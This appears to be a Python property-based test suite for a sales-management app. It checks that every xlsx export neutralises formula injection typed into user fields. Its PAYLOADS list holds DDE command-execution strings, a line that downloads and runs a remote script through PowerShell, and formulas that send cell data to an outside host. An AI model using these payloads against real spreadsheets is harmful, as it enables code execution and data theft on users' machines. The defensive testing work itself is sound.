"""Every exported workbook: no formula but our own, whatever text a user typed (issue 8).

For each example, one text a user could type (a formula "=…", "+…", "-…", "@…", a tab or
CR in front, =HYPERLINK(…), =cmd|' /C calc'!A0 and other DDE payloads, XML and escape
look-alikes, any unicode) is put into every typed field of a copy of the demo firm, and
EVERY xlsx export the program has is run over it:

- aging [账龄分析表] (reports/collections/aging_xlsx.py): by customer, by rep, by region;
- customer ledger [应收账款明细账] (ledger.py), for a customer with each kind of typed
  reference: a receipt, a prepayment, an approved write-off, an opening balance;
- staff liability statement (liability.py): summary and lines;
- customer list (customers.py);
- dispatch register [发货登记] (services/orders/dispatch_register.py);
- expense ledger [销售费用台账] (expenses.py): claims, by month, by department;
- audit trail with the SoD justifications (audit.py);
- the dashboard's chart data (analysis.py, rows as ui/tabs/dashboard/analysis_page.py
  builds them): sales by product, by rep, by region, aging totals, collection rate,
  expenses against budget.
There is no xlsx export of the orders register or of the credit lists (those are PDFs or
screens), so none to cover; a new export must be added to EXPORTS below.

Typed fields (in a workbook or not, so that a future export showing one is covered too):
customer names, addresses, phones, classification codes (an export shows an unknown
stored code as it is), contacts; product names and units; order notes, delivery terms and
addresses; carriers, tracking numbers, who received, shipment notes, return reasons;
receipt references, notes and reversal reasons, prepayment references, write-off reasons, opening-balance
descriptions; expense items, purposes, events, payment references, a department's name;
users' full names, the exporting user's login name (in every audit row it writes), an SoD
justification. The text goes straight into the stored columns, past the forms' checks
(trimming, lengths), which only widens what is tried. Codes are checked, since one names a
sheet: a customer's and a product's code take the text when their forms would accept it,
else a code drawn as those checks allow.

The check reads the zip's XML, not cells (tests/hardening/xlsx_scan.py): no <f>
anywhere (our exports write no formula of their own: totals are summed in Python), no
formula-only cell types, links, DDE or external parts; the only defined names are our
autofilters over a quoted sheet name; and in each export the text is found verbatim in
the columns listed in EXPORTS, proving it went out as text rather than being dropped.
"""

from __future__ import annotations

import shutil
import tempfile
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import date
from pathlib import Path

import pytest
import xlsxwriter
from hypothesis import HealthCheck, assume, example, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select, update

from sales_desk import clock
from sales_desk.db.database import Database, open_database
from sales_desk.domain.common.errors import ValidationError
from sales_desk.domain.common.roles import CONFLICTS, Actor, Role
from sales_desk.domain.customers.files import check_code
from sales_desk.models import (
    Base,
    Customer,
    ExpenseClaim,
    LiabilityCharge,
    Movement,
    OrderPrepayment,
    Product,
    Receipt,
    Receivable,
    SodJustification,
    User,
    UserRole,
    WriteOff,
)
from sales_desk.reports.admin.audit_xlsx import write_audit_xlsx
from sales_desk.reports.collections.aging_xlsx import export_aging_xlsx
from sales_desk.reports.collections.ledger_xlsx import export_ledger_xlsx
from sales_desk.reports.collections.liability_xlsx import export_liability_xlsx
from sales_desk.reports.customers.list_xlsx import export_customers_xlsx
from sales_desk.reports.expenses.ledger_xlsx import write_expense_ledger
from sales_desk.reports.orders.dispatch_register_xlsx import export_register_xlsx
from sales_desk.reports.planning.analysis_xlsx import write_table
from sales_desk.services.admin import audit, users
from sales_desk.services.collections import targets as collection_targets
from sales_desk.services.expenses import ledger as expense_ledger
from sales_desk.services.planning import analysis
from sales_desk.services.planning.analysis import SalesBy
from tests.hardening.firm import DB_FILE, config, people
from tests.hardening.xlsx_scan import scan

pytestmark = pytest.mark.slow

EXAMPLES = 25

# -- what a user can type -----------------------------------------------------------------------

PAYLOADS = (
    '=HYPERLINK("http://x","y")',
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "=A1",
    "=SUM(A1:A9)",
    '=IMPORTXML(CONCAT("http://x/?v=",A1),"//a")',
    '=WEBSERVICE("http://x/?"&A1)',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",  # a full-width equals sign
    "'=1+1",
    "{=1+1}",
    "+86 138 0013 8000",
    "-",
    "@",
    "=",
    "</t></is></c><c r=\"Z1\"><f>1+1</f></c>",
    "<f>1+1</f>",
    "]]><f>1+1</f>",
    "_x003D_1+1",  # "=" in the writer's own escape
    "_x005F_x003D_",
    "&amp;=1+1",
    "\x00=1+1\x07\x1f",
    "2026-01-01",
    "1E5",
    "TRUE",
    "#N/A",
)
PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\t=", "\r=", "\r\n=", " =", "\x00=", "'=", "=-", "@@")

typed_text = st.one_of(
    st.sampled_from(PAYLOADS),
    st.builds(lambda p, rest: p + rest, st.sampled_from(PREFIXES), st.text(max_size=30)),
    st.text(min_size=1, max_size=40),
)
code_text = st.from_regex(r"[A-Za-z0-9][A-Za-z0-9_-]{0,31}", fullmatch=True).map(str.upper)  # check_code's shape


# -- a firm where the text is typed everywhere --------------------------------------------------

# table: its typed columns, and (column, value) narrowing it to the rows a user types into
TYPED: tuple[tuple[str, tuple[str, ...], tuple[str, str] | None], ...] = (
    ("customers", ("name", "short_name", "address", "phone", "legal_representative", "region", "industry",
                   "nature", "customer_type"), None),
    ("customer_contacts", ("name", "position", "phone", "email", "note"), None),
    ("products", ("name", "spec", "unit"), None),
    ("sales_orders", ("note", "delivery_terms", "delivery_address"), None),
    ("shipments", ("carrier", "tracking_no", "received_by", "note", "handover_note"), None),
    ("dispatch_returns", ("reason",), None),
    ("users", ("full_name",), None),
    ("receipts", ("reference", "note", "reversal_reason"), None),
    ("order_prepayments", ("reference",), None),
    ("write_offs", ("reason",), None),
    ("receivables", ("description",), ("kind", "opening")),  # typed in the opening-balance import
    ("expense_claims", ("item", "purpose", "event"), None),
    ("expense_payments", ("reference",), None),
)


@dataclass(frozen=True)
class Firm:
    db: Database
    actor: Actor  # the GM: sees and exports everything
    ledgers: dict[str, int]  # a customer whose ledger shows each kind of typed reference
    codes: dict[str, str]  # the customer's and the product's code the text left them
    liability_month: date
    expense_year: int
    sales_year: int


def _product_code(typed: str, fallback: str) -> str:
    """The text as a product code, if the product form takes it (services/orders/products.py: trimmed,
    upper-cased, 1–32 characters, no spaces)."""
    code = typed.strip().upper()
    return code if code and len(code) <= 32 and not any(ch.isspace() for ch in code) else fallback


def _customer_code(typed: str, fallback: str) -> str:
    try:
        return check_code(typed)
    except ValidationError:
        return fallback


def type_everywhere(db: Database, typed: str, code: str) -> Firm:
    """Put `typed` into every typed field; a customer's and a product's code become the text if
    their forms would take it, else `code`."""
    gm = next(a for a in people(db) if Role.GM in a.roles)
    codes = {"customer": _customer_code(typed, code), "product": _product_code(typed, code)}
    with db.uow() as uow:
        s = uow.session
        month = s.scalar(select(func.max(LiabilityCharge.month)))
        ledgers = {
            "receipt": s.scalar(select(func.min(Receipt.customer_id))),
            "prepayment": s.scalar(select(func.min(OrderPrepayment.customer_id))),
            "write-off": s.scalar(select(func.min(WriteOff.customer_id)).where(WriteOff.status == "approved")),
            "reversal": s.scalar(select(func.min(Receipt.customer_id)).where(Receipt.reversed_on.is_not(None))),
            # still open and charged in the last month run: in the aging and the liability lines too
            "opening balance": s.scalar(select(func.min(Receivable.customer_id)).join(
                LiabilityCharge, LiabilityCharge.receivable_id == Receivable.id).where(
                Receivable.kind == "opening", Receivable.open_amount > 0, LiabilityCharge.month == month)),
        }
        department = s.scalar(select(ExpenseClaim.department).where(ExpenseClaim.customer_id.is_not(None)).limit(1))
        shipped_product = s.scalar(select(func.min(Movement.product_id)))
        assume(codes["customer"] not in set(s.scalars(select(Customer.code))))
        assume(codes["product"] not in set(s.scalars(select(Product.code))))
        assume(typed not in set(s.scalars(select(User.username))))
        for name, columns, where in TYPED:
            table = Base.metadata.tables[name]
            stmt = update(table).values(dict.fromkeys(columns, typed))
            s.execute(stmt if where is None else stmt.where(table.c[where[0]] == where[1]))
        for name in ("expense_claims", "expense_budget_lines", "expense_profiles"):  # a department renamed
            table = Base.metadata.tables[name]
            s.execute(update(table).where(table.c.department == department).values(department=typed))
        s.execute(update(User).where(User.id == gm.user_id).values(username=typed))
        # shown in the aging, the list, the liability lines, and its ledger's sheet name
        s.execute(update(Customer).where(Customer.id == ledgers["opening balance"]).values(code=codes["customer"]))
        s.execute(update(Product).where(Product.id == shipped_product).values(code=codes["product"]))
        admin = s.scalar(select(UserRole.user_id).where(UserRole.role == Role.ADMIN.value))
        s.add(SodJustification(user_id=gm.user_id, conflict_key=CONFLICTS[0].key, justification=typed,
                               recorded_by_id=admin, recorded_at=clock.now()))
        expense_year = s.scalar(select(func.max(ExpenseClaim.spent_on))).year
        sales_year = s.scalar(select(func.max(Movement.moved_on))).year
        uow.commit()
    assert None not in ledgers.values(), ledgers  # the demo has each kind of typed reference
    actor = Actor(gm.user_id, typed, gm.roles)  # logged in under the typed name: every audit row carries it
    with db.uow(actor) as uow:  # the audit row a rename writes
        uow.audit("customer.update", "customer", ledgers["write-off"], {"name": "old"}, {"name": typed})
        uow.commit()
    return Firm(db, actor, ledgers, codes, month, expense_year, sales_year)


# -- every export -----------------------------------------------------------------------------------

Run = Callable[[Firm, Path], None]


def _aging(f: Firm, out: Path) -> None:
    export_aging_xlsx(f.db.uow(f.actor), out)


def _ledger(kind: str) -> Run:
    def run(f: Firm, out: Path) -> None:
        export_ledger_xlsx(f.db.uow(f.actor), f.ledgers[kind], out)
    return run


def _liability(f: Firm, out: Path) -> None:
    export_liability_xlsx(f.db.uow(f.actor), f.liability_month, out, run_if_needed=True)


def _customers(f: Firm, out: Path) -> None:
    export_customers_xlsx(f.db.uow(f.actor), out)


def _register(f: Firm, out: Path) -> None:
    export_register_xlsx(f.db.uow(f.actor), out)


def _expenses(f: Firm, out: Path) -> None:
    expense_ledger.export_expense_ledger(f.db.uow(f.actor), f.expense_year,
                                         lambda report, rows: write_expense_ledger(out, report, rows, lang="en"))


def _audit(f: Firm, out: Path) -> None:
    justifications = users.sod_justification_report(f.db.uow(f.actor))
    audit.export_audit(f.db.uow(f.actor), lambda rows: write_audit_xlsx(out, rows, justifications))


def _sales(by: SalesBy) -> Run:
    def run(f: Firm, out: Path) -> None:
        c = analysis.sales_composition(f.db.uow(f.actor), by, f.sales_year)
        product = by is SalesBy.PRODUCT
        write_table(out, "Sales", (("Name", "text", 30), ("Sold", "money", 16))
                    + ((("Quantity", "int", 10),) if product else ()),
                    [(r.label, r.amount) + ((r.quantity,) if product else ()) for r in c.rows])
    return run


def _aging_totals(f: Firm, out: Path) -> None:
    a = analysis.aging_totals(f.db.uow(f.actor))
    write_table(out, "Aging", (("Bucket", "text", 18), ("Amount", "money", 16), ("Customers", "int", 12)),
                zip(a.labels, a.amounts, a.customers, strict=True))


def _collection(f: Firm, out: Path) -> None:
    perf = collection_targets.collection_performance(f.db.uow(f.actor), f.liability_month)
    write_table(out, "Collection", (("Sales rep", "text", 16), ("Collection target", "money", 16),
                                    ("Collected", "money", 16), ("Rate (%)", "number", 10), ("Overdue", "money", 16)),
                [(p.rep, p.target, p.collected, p.rate, p.overdue) for p in perf])


def _budget(f: Firm, out: Path) -> None:
    e = analysis.expenses_against_budget(f.db.uow(f.actor), f.expense_year)
    write_table(out, "Expenses", (("Category", "text", 16), ("Budget", "money", 16), ("Spent", "money", 16),
                                  ("Left", "money", 16)), [(r.label, r.budget, r.spent, r.left) for r in e.rows])


@dataclass(frozen=True)
class Export:
    run: Run
    typed_in: dict[int, tuple[str, ...]] = field(default_factory=dict)  # sheet → columns showing the text
    codes_in: dict[int, tuple[tuple[str, str], ...]] = field(default_factory=dict)  # sheet → (column, whose code)


EXPORTS: dict[str, Export] = {
    "aging": Export(_aging, {0: ("Customer", "Sales rep", "Region"), 1: ("Sales rep",), 2: ("Region",)},
                    {0: (("Code", "customer"),)}),
    "ledger (receipt)": Export(_ledger("receipt"), {0: ("Reference",)}),
    "ledger (prepayment)": Export(_ledger("prepayment"), {0: ("Number",)}),  # its reference; the order is in Reference
    "ledger (write-off)": Export(_ledger("write-off"), {0: ("Reference",)}),
    "ledger (reversal)": Export(_ledger("reversal"), {0: ("Reference",)}),  # a bounced cheque's reason
    "ledger (opening balance)": Export(_ledger("opening balance"), {0: ("Reference",)}),
    "liability": Export(_liability, {0: ("Person",), 1: ("Person", "Customer")}, {1: (("Customer code", "customer"),)}),
    "customers": Export(_customers, {0: ("Name", "Region", "Industry", "Nature", "Customer type", "Sales rep")},
                        {0: (("Code", "customer"),)}),
    "dispatch register": Export(_register, {0: ("Customer", "Product", "Unit", "Carrier", "Tracking no.",
                                                "Received by", "Shipped by")}, {0: (("Product code", "product"),)}),
    "expense ledger": Export(_expenses, {0: ("Claimant", "Department", "Item", "Purpose", "Customer", "Event",
                                             "Signed by finance", "Reference", "Paid by"), 2: ("Department",)}),
    "sales by product": Export(_sales(SalesBy.PRODUCT)),  # "code name"
    "sales by rep": Export(_sales(SalesBy.REP), {0: ("Name",)}),
    "sales by region": Export(_sales(SalesBy.REGION), {0: ("Name",)}),
    "aging totals": Export(_aging_totals),  # our bucket labels only
    "collection rate": Export(_collection, {0: ("Sales rep",)}),
    "expenses against budget": Export(_budget),  # our category labels only
    "audit": Export(_audit, {0: ("User",), 1: ("User", "Justification")}),  # last: it shows the others' rows
}


def test_no_exported_workbook_holds_a_formula_from_typed_text(demo_template: Path, tmp_path: Path) -> None:
    counts = {"examples": 0, "workbooks": 0}

    @settings(max_examples=EXAMPLES, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow])
    @given(typed=typed_text, code=code_text)
    @example(typed='=HYPERLINK("http://x","y")', code="CMD-1")
    @example(typed="=cmd|' /C calc'!A0", code="A1")
    @example(typed='=DDE("cmd";"/C calc";"__DdeLink_60_870516294")', code="1E5")
    @example(typed='</t></is></c><c r="Z1"><f>1+1</f></c>', code="0")
    @example(typed="\r=1+1\x00_x003D_", code="Z-")
    def every_export(typed: str, code: str) -> None:
        folder = Path(tempfile.mkdtemp(dir=tmp_path))
        shutil.copy2(demo_template / DB_FILE, folder / DB_FILE)
        db = open_database(config(folder))
        try:
            firm = type_everywhere(db, typed, code)
            for name, export in EXPORTS.items():
                out = folder / f"{name}.xlsx"
                export.run(firm, out)
                found = scan(out)
                assert found.problems == [], (name, typed, found.problems)
                assert not any(typed in f for f in found.formulas), (name, typed)
                for index, titles in export.typed_in.items():
                    for title in titles:
                        assert typed in found.sheet(index).column(title), (name, index, title, typed)
                for index, columns in export.codes_in.items():
                    for title, whose in columns:
                        assert firm.codes[whose] in found.sheet(index).column(title), (name, title, firm.codes)
                counts["workbooks"] += 1
            counts["examples"] += 1
        finally:
            db.close()
            shutil.rmtree(folder, ignore_errors=True)

    every_export()
    assert counts["examples"] >= EXAMPLES, counts
    print(f"\nxlsx no formula: {counts['examples']} typed texts × {len(EXPORTS)} exports = "
          f"{counts['workbooks']} workbooks checked")


def test_the_scan_sees_every_formula_link_and_name_a_workbook_can_hold(tmp_path: Path) -> None:
    """The check above is only as good as its scan: fed what xlsxwriter can write, it objects."""
    path = tmp_path / "hazards.xlsx"
    book = xlsxwriter.Workbook(str(path))
    ws = book.add_worksheet("Sheet 1")
    ws.write_string(0, 0, "Title")
    ws.write_formula(1, 0, "=1+1", None, 2)
    ws.write_array_formula(2, 0, 2, 0, "{=SUM(A1:A2)}")
    ws.write_formula(3, 0, '=HYPERLINK("http://x","y")', None, "y")  # a string result: t="str"
    ws.write_url(4, 0, "http://x/")
    ws.data_validation(5, 0, 5, 0, {"validate": "custom", "value": "=A1>0"})
    ws.autofilter(0, 0, 5, 0)
    book.define_name("Calc", "=cmd|' /C calc'!A0")
    book.close()

    found = scan(path)
    seen = "\n".join(found.problems)
    assert {"1+1", "SUM(A1:A2)", 'HYPERLINK("http://x","y")'} <= set(found.formulas), found.formulas
    for hazard in ("formula b'<f>1+1</f>'", "a cell of type 'str'", "<hyperlink> element", "<formula1> element",
                   "external relationship", "defined name 'Calc'"):
        assert hazard in seen, (hazard, found.problems)
    assert "_FilterDatabase" not in seen  # the autofilter's own name is ours
    assert found.sheet(0).titles == {"A": "Title"}
